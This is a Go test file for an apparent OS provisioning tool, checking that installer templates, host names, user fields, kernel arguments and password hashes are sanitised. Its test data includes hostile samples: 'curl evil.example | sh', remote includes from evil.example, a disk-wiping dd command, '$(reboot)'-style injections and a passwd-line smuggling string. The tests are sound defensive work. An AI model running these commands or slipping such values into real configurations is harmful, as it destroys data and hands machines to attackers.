package lpmos_test

import (
	"encoding/json"
	"errors"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/lpmos/lpmos"
	"github.com/lpmos/lpmos/internal/tier"
)

// yescrypt and sha512 are of the password "canary".
const (
	yescrypt = "$y$j9T$F5Jx5fExrKuPp53xLKQ..1$X3DX6M94c7o.9agCG9G317fhZg9SqC.5i5rd.RhAtQ7"
	sha512   = "$6$saltsalt$qFmFH.bQmmtXzyBY0s9v7Oicd2z4XSIecDzlB5KiA2/jctKu9YterLp8wwnSq.qc.eoxqOmSuNp2xS0ktL3nh/"
)

func installer(answers string) lpmos.Image {
	i := image()
	i.Format, i.SizeBytes, i.UsedBytes = lpmos.FormatInstaller, 0, 0
	i.Installer = &lpmos.ImageInstaller{
		Answers: answers, Repository: "http://mirror.example:8080/debian",
		Kernel: lpmos.Blob{SHA256: strings.Repeat("cd", 32), Bytes: 8 << 20}, Initrd: lpmos.Blob{SHA256: strings.Repeat("ef", 32), Bytes: 40 << 20},
	}
	return i
}

func answersOf(t testing.TB, p lpmos.Plan) string {
	t.Helper()
	for _, f := range p.Effect.Files {
		if f.For == lpmos.ForInstaller {
			return f.Text
		}
	}
	t.Fatalf("the plan has no answers for the installer; problem %q", p.Problem)
	return ""
}

var answerKinds = []string{lpmos.TemplatePreseed, lpmos.TemplateKickstart, lpmos.TemplateAutoinstall}

// additions are templates that add what they may, with hostile facts in them.
var additions = map[string]string{
	lpmos.TemplatePreseed:     "# {{hostname}}\nd-i apt-setup/non-free-firmware boolean true\nd-i netcfg/dhcp_timeout string 60\nd-i lpmos/asset string {{preseed asset}}\n",
	lpmos.TemplateKickstart:   "group --name={{kickstart asset}}\n%packages\ntmux\n%end\n%post --erroronfail --log=/root/post.log\necho {{shell asset}} > /root/asset\n%wheel ALL=(ALL) ALL\n%end\n",
	lpmos.TemplateAutoinstall: `{"packages": ["tmux"], "debconf-selections": {{json asset}}}`,
}

func installerTask(kind string) *lpmos.Task {
	t := task()
	s := setup()
	s.Network, s.Packages = nil, []string{"nginx", "vim"}
	s.Users[0].Password = true
	t.Setup = &s
	t.TemplateText = &lpmos.TaskTemplate{Name: "more", Version: 3, Kind: kind, Text: additions[kind]}
	return t
}

func installerPlan(kind string) lpmos.Plan {
	h := server()
	h.Chassis.AssetTag = `it's "A" % $(x) #1`
	return lpmos.NewPlan(installerTask(kind), h, installer(kind))
}

func TestInstallerPlan(t *testing.T) {
	for _, kind := range answerKinds {
		t.Run(kind+" names the one disk, LPMOS's commands and the template's additions", func(t *testing.T) {
			p := installerPlan(kind)
			if p.Problem != "" {
				t.Fatal(p.Problem)
			}
			text := answersOf(t, p)
			for _, want := range []string{p.Effect.Target.ByID()[len("/dev/"):], "/lpmos/agent", "finish", "web-01", "nginx", "Europe/Berlin", "de_DE.UTF-8", "mirror.example:8080"} {
				if !strings.Contains(text, want) {
					t.Errorf("the answers do not hold %q:\n%s", want, text)
				}
			}
			if p.Effect.Target.Serial != "S0" || strings.Contains(text, "N0") || strings.Contains(text, "S1") {
				t.Errorf("the answers are for %s and name another disk:\n%s", p.Effect.Target, text)
			}
			if p.Effect.BootID == "" || p.Effect.Method != lpmos.FormatInstaller || len(p.Effect.Partitions) != 0 {
				t.Errorf("effect = %+v", p.Effect)
			}
			if again := installerPlan(kind); again.Digest != p.Digest {
				t.Error("the same task and machine gave another plan")
			}
			other := server()
			other.Chassis.AssetTag = "B"
			if lpmos.NewPlan(installerTask(kind), other, installer(kind)).Digest == p.Digest {
				t.Error("other answers gave the same plan digest")
			}
			if slices.ContainsFunc(p.Effect.Files, func(f lpmos.PlannedFile) bool { return f.Path == "/etc/fstab" || strings.HasPrefix(f.Path, "/boot") }) {
				t.Errorf("the plan has files that the installer makes: %+v", p.Effect.Files)
			}
		})
	}
	for name, c := range map[string]struct {
		task *lpmos.Task
		h    func(*lpmos.Hardware)
		want string
	}{
		"refuses a disk that cannot be named": {task(), func(h *lpmos.Hardware) { h.Disks = []lpmos.Disk{{Device: "/dev/vda", SizeBytes: 480 * gb}} }, "neither serial number nor WWN"},
		"refuses a declared network":          {func() *lpmos.Task { t := task(); s := setup(); t.Setup = &s; return t }(), func(*lpmos.Hardware) {}, "DHCP only"},
		"refuses a layout":                    {func() *lpmos.Task { t := task(); t.Layout = &lpmos.Layout{Preset: "raid1-lvm"}; return t }(), func(*lpmos.Hardware) {}, "divides the disk itself"},
		"refuses a template of another kind":  {installerTask(lpmos.TemplateKickstart), func(*lpmos.Hardware) {}, "not an installer that reads one"},
	} {
		t.Run(name, func(t *testing.T) {
			h := server()
			c.h(h)
			if name == "refuses a disk that cannot be named" {
				c.task.TargetDisk = &lpmos.DiskRef{Path: "/dev/vda", SizeBytes: 480 * gb}
			}
			if p := lpmos.NewPlan(c.task, h, installer(lpmos.TemplatePreseed)); !strings.Contains(p.Problem, c.want) {
				t.Errorf("problem = %q; want one about %q", p.Problem, c.want)
			}
		})
	}
}

// TestPreseedNamesACountry holds that Debian's installer need not ask for one.
func TestPreseedNamesACountry(t *testing.T) {
	for locale, want := range map[string]string{
		"": "language string en\nd-i debian-installer/country string US\n", "C.UTF-8": "country string US\nd-i debian-installer/locale string en_US.UTF-8\n",
		"de_AT.UTF-8": "language string de\nd-i debian-installer/country string AT\nd-i debian-installer/locale string de_AT.UTF-8\n",
	} {
		task := task()
		task.Setup = &lpmos.Setup{Locale: locale}
		if text := answersOf(t, lpmos.NewPlan(task, server(), installer(lpmos.TemplatePreseed))); !strings.Contains(text, want) {
			t.Errorf("locale %q gives\n%s\nwant %q in it", locale, lpmos.Prefix(text, 300), want)
		}
	}
}

// TestAnswersAreNotATemplates holds that no template says what decides about
// disks, commands and passwords (V11, V15).
func TestAnswersAreNotATemplates(t *testing.T) {
	for _, c := range []struct{ kind, text string }{
		{lpmos.TemplatePreseed, "d-i partman-auto/disk string /dev/sdb"},
		{lpmos.TemplatePreseed, "d-i partman-auto/\\\ndisk string /dev/sdb"},
		{lpmos.TemplatePreseed, "d-i preseed/late_command string dd if=/dev/zero of=/dev/sdb"},
		{lpmos.TemplatePreseed, "d-i partman/early_command string true"},
		{lpmos.TemplatePreseed, "d-i preseed/include string http://evil.example/x"},
		{lpmos.TemplatePreseed, "d-i passwd/root-password password r00t"},
		{lpmos.TemplatePreseed, "d-i passwd"},
		{lpmos.TemplatePreseed, "d-i pkgsel/include string vim \\"},
		{lpmos.TemplatePreseed, "d-i\u00a0x preseed/include string http://evil.example/x"},
		{lpmos.TemplatePreseed, "\u00a0#d-i preseed/include string http://evil.example/x"},
		{lpmos.TemplatePreseed, "d-i a/b string \\\r\nd-i preseed/include string http://evil.example/x"},
		{lpmos.TemplateKickstart, "clearpart --all"},
		{lpmos.TemplateKickstart, "  part / --ondisk=sdb"},
		{lpmos.TemplateKickstart, "%pre\ndd\n%end"},
		{lpmos.TemplateKickstart, "%include http://evil.example/ks"},
		{lpmos.TemplateKickstart, "%post --nochroot\nx\n%end"},
		{lpmos.TemplateKickstart, "%post --noch\nx\n%end"},
		{lpmos.TemplateKickstart, "%post '--nochroot'\nx\n%end"},
		{lpmos.TemplateKickstart, "%post --log=/x \"--nochroot\"\nx\n%end"},
		{lpmos.TemplateKickstart, "\"clearpart\" --all"},
		{lpmos.TemplateKickstart, "clear\\part --all"},
		{lpmos.TemplateKickstart, "# a comment\u2028clearpart --all"},
		{lpmos.TemplateKickstart, "# a comment\vclearpart --all"},
		{lpmos.TemplateKickstart, "# a comment\rclearpart --all"},
		{lpmos.TemplateKickstart, "%post\n%ksappend http://evil.example/ks\n%end"},
		{lpmos.TemplateKickstart, "%post\n%e\"n\"d\nclearpart --all\n%post\n%end"},
		{lpmos.TemplateKickstart, "%post\nx"},
		{lpmos.TemplateKickstart, "%packages\n%end\n%pre\n%end"},
		{lpmos.TemplateKickstart, "%packages\n%pre\n%end"},
		{lpmos.TemplateKickstart, "rootpw secret"},
		{lpmos.TemplateKickstart, "formatdisks --all"},
		{lpmos.TemplateKickstart, "liveimg --url=http://evil.example/x"},
		{lpmos.TemplateKickstart, "firewall --enabled --sudo"},
		{lpmos.TemplateKickstart, "firewall --enab"},
		{lpmos.TemplateKickstart, "group --name"},
		{lpmos.TemplateKickstart, "skipx please"},
		{lpmos.TemplateKickstart, "url --url='http://mirror.example"},
		{lpmos.TemplateKickstart, "\"\""},
		{lpmos.TemplateKickstart, "\"%pre\"\nx\n%end"},
		{lpmos.TemplateKickstart, "%pre-install\nx\n%end"},
		{lpmos.TemplateKickstart, "%packages --upgrade\n%end"},
		{lpmos.TemplateKickstart, "%packages\nvim; reboot\n%end"},
		{lpmos.TemplateAutoinstall, `{"storage": {}}`},
		{lpmos.TemplateAutoinstall, `{"late-commands": []}`},
		{lpmos.TemplateAutoinstall, "packages: [vim]"},
		{lpmos.TemplateAutoinstall, `[]`},
		{lpmos.TemplateAutoinstall, `{"packages": 1, "packages": 2}`},
	} {
		_, err := lpmos.Template{Name: "x", Kind: c.kind, Text: c.text}.Normalize()
		if e, ok := errors.AsType[*lpmos.InvalidError](err); !ok || e.Field != "text" {
			t.Errorf("Normalize(%s %q) = %v; want an InvalidError on text", c.kind, c.text, err)
		}
	}
	for kind, text := range additions {
		if _, err := (lpmos.Template{Name: "x", Kind: kind, Text: text}).Normalize(); err != nil {
			t.Errorf("Normalize(%s %q) = %v; want nil", kind, text, err)
		}
	}
	for _, text := range []string{
		"network --device=eno2 --bootproto dhcp --noipv6  # the second", `repo --name "own packages" --baseurl='http://mirror.example/own'`, "firewall --service=ssh,http --port=8080:tcp",
		"services --enabled=chronyd", "selinux --enforcing", `sshkey --username=root "ssh-ed25519 AAAA me"`, "authselect select sssd with-mkhomedir --force", "keyboard --vckeymap=de", "# \"",
		"%packages --nocore --exclude-weakdeps\n-@Sound and Video\n@^minimal-environment\nkernel-*\n  # why\n%end", "%addon com_redhat_kdump --enable --reserve-mb=auto\n%end",
	} {
		if _, err := (lpmos.Template{Name: "x", Kind: lpmos.TemplateKickstart, Text: text}).Normalize(); err != nil {
			t.Errorf("Normalize(kickstart %q) = %v; want nil", text, err)
		}
	}
}

// TestKickstartHasOurSections is V15: what people and machines are called gives
// a kickstart file no section and no command; it is refused, or one word.
func TestKickstartHasOurSections(t *testing.T) {
	kickstart := func(edit func(*lpmos.Task, *lpmos.Hardware)) (commands []string, problem string) {
		t.Helper()
		task, h := installerTask(lpmos.TemplateKickstart), server()
		h.Chassis.AssetTag = "A1"
		task.TemplateText.Text = "group --name={{kickstart asset}}\n%post\necho {{shell asset}} {{shell hostname}}\n%end\n"
		edit(task, h)
		p := lpmos.NewPlan(task, h, installer(lpmos.TemplateKickstart))
		if p.Problem != "" {
			return nil, p.Problem
		}
		for line := range strings.Lines(answersOf(t, p)) {
			first, _, _ := strings.Cut(strings.TrimSpace(line), " ")
			commands = append(commands, first)
		}
		return commands, ""
	}
	want, problem := kickstart(func(*lpmos.Task, *lpmos.Hardware) {})
	if problem != "" {
		t.Fatal(problem)
	}
	for _, evil := range []string{
		"%end", "%post", "%include http://evil.example/ks", "x\n%post\ncurl evil.example | sh\n%end", "x\r%pre", "x\u2028%post", "x\"\nclearpart --all", `x" --password="y`, "$(reboot)", "`reboot`", "'; reboot; '", "%ksappend /x",
	} {
		for name, edit := range map[string]func(*lpmos.Task, *lpmos.Hardware){
			"the asset tag": func(_ *lpmos.Task, h *lpmos.Hardware) { h.Chassis.AssetTag = evil },
			"the host name": func(t *lpmos.Task, _ *lpmos.Hardware) { t.Hostname = evil }, // as if nothing had refused it
			"a user":        func(t *lpmos.Task, _ *lpmos.Hardware) { t.Setup.Users[0].Gecos = evil },
		} {
			if got, problem := kickstart(edit); problem == "" && !slices.Equal(got, want) {
				t.Errorf("%q as %s gives other commands (-want +got):\n%s", evil, name, cmp.Diff(want, got))
			}
		}
		s := goodSpec()
		s.Hostname = evil
		if _, err := s.Normalize(); err == nil {
			t.Errorf("%q is taken for a host name", evil)
		}
		if _, err := (lpmos.Setup{Users: []lpmos.Account{{Name: evil}}}).Normalize(); err == nil {
			t.Errorf("%q is taken for a user", evil)
		}
	}
}

func TestEncodersRefuseLines(t *testing.T) {
	for _, encoder := range lpmos.Encoders() {
		for _, value := range []string{"a\nb", "a\rb", "a\x00b", "a\u2028b", "a\tb"} {
			text, err := lpmos.RenderTemplate("x={{"+encoder+" asset}}", lpmos.Facts{Text: map[string]string{"asset": value}})
			if encoder == "json" {
				if err != nil || strings.ContainsAny(text, "\n\r\x00\u2028\t") {
					t.Errorf("json of %q = %q, %v", value, text, err)
				}
			} else if err == nil {
				t.Errorf("%s of %q = %q; want an error", encoder, value, text)
			}
		}
	}
	for _, value := range []string{" a", "a ", `a\`} {
		if text, err := lpmos.RenderTemplate("x={{preseed asset}}", lpmos.Facts{Text: map[string]string{"asset": value}}); err == nil {
			t.Errorf("preseed of %q = %q; want an error", value, text)
		}
	}
}

// TestEncodersRoundTrip has the readers of the formats read what the encoders
// made: Python's shlex is what Anaconda uses.
func TestEncodersRoundTrip(t *testing.T) {
	python, err := exec.LookPath("/usr/bin/python3")
	if err != nil {
		tier.Missing(t, "tools", "there is no Python")
	}
	values := []string{`it's`, `"`, `\`, `\\"'`, `$(reboot) ${x} ` + "`x`", `%end`, `#no comment`, `a  b`, `--flag`, `é漢😀`, `!x`, `*?[a]`, ``}
	var words []string
	for _, v := range values {
		for _, encoder := range []string{"kickstart", "shell"} {
			w, err := lpmos.RenderTemplate("{{"+encoder+" asset}}", lpmos.Facts{Text: map[string]string{"asset": v}})
			if err != nil {
				t.Fatal(err)
			}
			words = append(words, w)
		}
	}
	in, err := json.Marshal(words)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), python, "-c", "import json,shlex,sys; print(json.dumps([shlex.split(w, comments=True) for w in json.load(sys.stdin)]))")
	cmd.Stdin = strings.NewReader(string(in))
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	var got [][]string
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatal(err)
	}
	for i, g := range got {
		if len(g) != 1 || g[0] != values[i/2] {
			t.Errorf("%s is read as %q; want the one word %q", words[i], g, values[i/2])
		}
	}
}

// TestAutoinstallIsOneDocument has a YAML reader find what was written.
func TestAutoinstallIsOneDocument(t *testing.T) {
	text := answersOf(t, installerPlan(lpmos.TemplateAutoinstall))
	cmd := exec.CommandContext(t.Context(), "/usr/bin/python3", "-c", "import json,sys,yaml; print(json.dumps(yaml.safe_load(sys.stdin)))")
	cmd.Stdin = strings.NewReader(text)
	out, err := cmd.Output()
	if err != nil {
		tier.Missing(t, "tools", "no Python with PyYAML: "+err.Error())
	}
	var got, want map[string]any
	_, body, _ := strings.Cut(text, "\n")
	if err := errors.Join(json.Unmarshal(out, &got), json.Unmarshal([]byte(body), &want)); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("YAML reads another document (-written +read):\n%s", diff)
	}
	if s := got["debconf-selections"]; s != `it's "A" % $(x) #1` || got["version"] != float64(1) {
		t.Errorf("debconf-selections = %q, version %v", s, got["version"])
	}
}

// TestPasswordHash is V17.
func TestPasswordHash(t *testing.T) {
	for _, good := range []string{yescrypt, sha512, strings.Replace(sha512, "$6$", "$6$rounds=500000$", 1)} {
		if err := lpmos.CheckPasswordHash(good); err != nil {
			t.Errorf("CheckPasswordHash(%q) = %v", good, err)
		}
	}
	for bad, want := range map[string]string{
		"CANARY-password": "not a crypt(3) hash", "": "not a crypt(3) hash", "abJnggxhB/yWI": "not a crypt(3) hash",
		"$1$salt$CANARY": "method that is not taken", "$2y$10$CANARY": "method that is not taken",
		"$6$salt$CANARY": "not a whole one", yescrypt + "x": "not a whole one", yescrypt[:60]: "not a whole one",
		yescrypt + "\nroot::0:0:::": "colon or a line end", sha512 + ":0:0": "colon or a line end", "!": "not a crypt(3) hash",
	} {
		err := lpmos.CheckPasswordHash(bad)
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("CheckPasswordHash(%q) = %v; want %q", bad, err, want)
			continue
		}
		p := lpmos.Profile{Name: "x", System: &lpmos.Setup{Users: []lpmos.Account{{Name: "ops", PasswordHash: lpmos.NewSecret(bad)}}}}
		if _, err := p.Normalize(); bad != "" && (err == nil || strings.Contains(err.Error(), "CANARY") || !strings.Contains(err.Error(), "system.users[0].password_hash")) {
			t.Errorf("Normalize with %q = %v; want an error that names the field and quotes nothing", bad, err)
		}
	}
}

func TestTakePasswords(t *testing.T) {
	given := lpmos.Profile{Name: "x", System: &lpmos.Setup{Users: []lpmos.Account{{Name: "ops", PasswordHash: lpmos.NewSecret(yescrypt)}, {Name: "app"}}}}
	stored, hashes, err := given.TakePasswords(nil)
	if err != nil || len(hashes) != 1 || hashes["password.ops"].Reveal() != yescrypt {
		t.Fatalf("TakePasswords = %v, %v", hashes, err)
	}
	b, err := json.Marshal(stored)
	if err != nil || !strings.Contains(string(b), `"password":true`) || strings.Contains(string(b), "password_hash") || strings.Contains(string(b), yescrypt) {
		t.Errorf("what is stored is %s, %v", b, err)
	}
	if given.System.Users[0].PasswordHash.IsZero() {
		t.Error("the profile that was given was changed")
	}
	// What was read is sent back with a change.
	_, again, err := stored.TakePasswords(hashes)
	if err != nil || again["password.ops"].Reveal() != yescrypt {
		t.Errorf("TakePasswords of what was stored = %v, %v", again, err)
	}
	if _, _, err := stored.TakePasswords(nil); err == nil {
		t.Error("an account with a password that nobody has was taken")
	}
}

func TestFillSecrets(t *testing.T) {
	task := installerTask(lpmos.TemplatePreseed)
	img := image()
	img.CloudInit = true
	task.TemplateText = nil
	p := lpmos.NewPlan(task, server(), img)
	var user string
	for _, f := range p.Effect.Files {
		if strings.HasSuffix(f.Path, "/user-data") {
			user = f.Text
		}
	}
	const place = `"passwd": "@@secret:password.ops@@"`
	if !strings.Contains(user, place) || strings.Contains(user, "$y$") {
		t.Fatalf("user-data has no place for the password:\n%s", user)
	}
	filled := lpmos.FillSecrets(user, map[string]lpmos.Secret{"password.ops": lpmos.NewSecret(yescrypt), "other": lpmos.NewSecret("x")})
	if !strings.Contains(filled, `"passwd": "`+yescrypt+`"`) || !json.Valid([]byte(strings.TrimPrefix(filled, "#cloud-config\n"))) {
		t.Errorf("filled user-data:\n%s", filled)
	}
	if got := lpmos.FillSecrets(user, map[string]lpmos.Secret{"password.ops": lpmos.NewSecret(`"}, "runcmd": ["x"]`)}); got != user {
		t.Errorf("what is no hash went into the text:\n%s", got)
	}
}

// TestInstallerManifest is V12 for an installer's own kernel, among others.
func TestInstallerManifest(t *testing.T) {
	good := func() *lpmos.ImageManifest {
		return &lpmos.ImageManifest{Format: lpmos.FormatInstaller, OS: "debian", Version: "12", Arch: "amd64", Installer: installer(lpmos.TemplatePreseed).Installer}
	}
	if err := good().Validate(); err != nil {
		t.Fatal(err)
	}
	for name, spoil := range map[string]func(*lpmos.ImageManifest){
		"none":                     func(m *lpmos.ImageManifest) { m.Installer = nil },
		"a pack":                   func(m *lpmos.ImageManifest) { m.Pack = lpmos.Blob{SHA256: strings.Repeat("a", 64), Bytes: 1} },
		"unknown answers":          func(m *lpmos.ImageManifest) { m.Installer.Answers = "autoyast" },
		"no kernel":                func(m *lpmos.ImageManifest) { m.Installer.Kernel = lpmos.Blob{} },
		"a large kernel":           func(m *lpmos.ImageManifest) { m.Installer.Kernel.Bytes = 1 << 40 },
		"answers from elsewhere":   func(m *lpmos.ImageManifest) { m.Installer.KernelArgs = "url=http://evil.example/preseed.cfg" },
		"an argument with a quote": func(m *lpmos.ImageManifest) { m.Installer.KernelArgs = `a="b` },
		"another init":             func(m *lpmos.ImageManifest) { m.Installer.KernelArgs = "rdinit=/bin/sh" },
		"a repository with a user": func(m *lpmos.ImageManifest) { m.Installer.Repository = "http://user:secret@mirror.example/debian" },
		"a file as repository":     func(m *lpmos.ImageManifest) { m.Installer.Repository = "file:///etc" },
		"a repository that climbs": func(m *lpmos.ImageManifest) { m.Installer.Repository = "http://mirror.example/../x" },
	} {
		m := good()
		spoil(m)
		if err := m.Validate(); err == nil {
			t.Errorf("a manifest with %s is valid", name)
		}
	}
	m := good()
	m.Format = lpmos.FormatExt4
	if err := m.Validate(); err == nil {
		t.Error("an installer of the format ext4 is valid")
	}
}

func TestByID(t *testing.T) {
	for _, c := range []struct {
		ref  lpmos.DiskRef
		want string
	}{
		{lpmos.DiskRef{Serial: "S3Z9 NB0/K..12", SizeBytes: 1}, "/dev/disk/by-id/lpmos-S3Z9_NB0_K..12"},
		{lpmos.DiskRef{WWN: "naa.5000c500a0b1c2d3", SizeBytes: 1}, "/dev/disk/by-id/lpmos-naa.5000c500a0b1c2d3"},
		{lpmos.DiskRef{Path: "/dev/sda", SizeBytes: 1}, ""},
	} {
		if got := c.ref.ByID(); got != c.want {
			t.Errorf("ByID(%+v) = %q; want %q", c.ref, got, c.want)
		}
	}
}
